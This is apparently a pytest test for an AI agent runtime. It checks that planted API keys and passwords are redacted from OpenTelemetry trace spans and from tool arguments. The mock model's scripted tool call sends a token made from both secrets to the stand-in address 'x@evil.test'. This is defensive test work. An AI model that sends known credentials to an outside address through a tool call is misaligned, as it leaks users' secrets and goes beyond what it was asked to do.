"""Secrets never reach a trace: with content capture on or off, a secret the runtime knows,
planted in the input, in a model's tool call, in a tool's result and in a provider's error, is
found in no span (name, attributes, events, status) nor its resource."""

from __future__ import annotations

import json

import pytest
from opentelemetry.sdk.trace import ReadableSpan

from keel import Agent, KeelSettings, Runtime, tool
from keel.observability import Tracing
from keel.testing import Fault, OpenAICompatibleServer
from tests.observability.tracing_scenario import memory_provider

SECRET = "sk-planted-7f3c9a1e5b2d4f60a8c1e9b7"
OTHER = "db-password-5e1b77c0a9d2"  # known through Runtime(secrets=...)


def everything(span: ReadableSpan) -> str:
    """All a span says, as text."""
    return json.dumps(
        {
            "name": span.name,
            "attributes": dict(span.attributes or {}),
            "events": [(e.name, dict(e.attributes or {})) for e in span.events],
            "status": [span.status.status_code.name, span.status.description],
            "resource": dict(span.resource.attributes),
            "links": [dict(link.attributes or {}) for link in span.links],
        },
        default=str,
    )


@pytest.mark.parametrize("capture_content", [False, True])
async def test_a_planted_secret_is_in_no_span(capture_content: bool) -> None:
    provider, exporter = memory_provider()
    received: list[str] = []
    async with OpenAICompatibleServer(api_key=SECRET) as server:

        @tool(side_effects="write")
        def send_report(to: str, token: str) -> str:
            """Send a report."""
            received.append(token)
            # The provider then fails, echoing the key in its error.
            server.add_fault(
                Fault.status(400, body={"error": {"message": f"bad request for key {SECRET}"}})
            )
            return f"sent to {to}; the key is {SECRET} and the password {OTHER}"

        server.add_reply(
            tool_calls=[("send_report", {"to": "x@evil.test", "token": f"{SECRET}/{OTHER}"})]
        )
        settings = KeelSettings.from_environ(
            {"OPENAI_API_KEY": SECRET, "OPENAI_BASE_URL": server.base_url}
        )
        tracing = Tracing(provider, capture_content=capture_content)
        agent = Agent(name="desk", model="openai:gpt-4o-mini", tools=[send_report])
        async with Runtime(
            settings=settings, store=":memory:", secrets=[OTHER], observers=[tracing], retry=None
        ) as runtime:
            result = await runtime.run(agent, f"Send a report; use {SECRET} and {OTHER}")

    assert result.status == "failed"  # on the provider's error
    assert received == ["[REDACTED]/[REDACTED]"]
    spans = exporter.get_finished_spans()
    assert {s.name for s in spans} >= {
        "invoke_agent desk",
        "chat gpt-4o-mini",
        "execute_tool send_report",
    }
    for span in spans:
        text = everything(span)
        for secret in (SECRET, OTHER):
            assert secret not in text, f"the secret leaked into span {span.name}: {text}"
            assert secret[4:] not in text, f"part of the secret leaked into span {span.name}"
    captured = [s for s in spans if s.attributes and "gen_ai.tool.call.arguments" in s.attributes]
    if capture_content:  # content was there to leak, masked
        assert captured
        assert "[REDACTED]" in str(captured[0].attributes)
    else:
        assert not captured
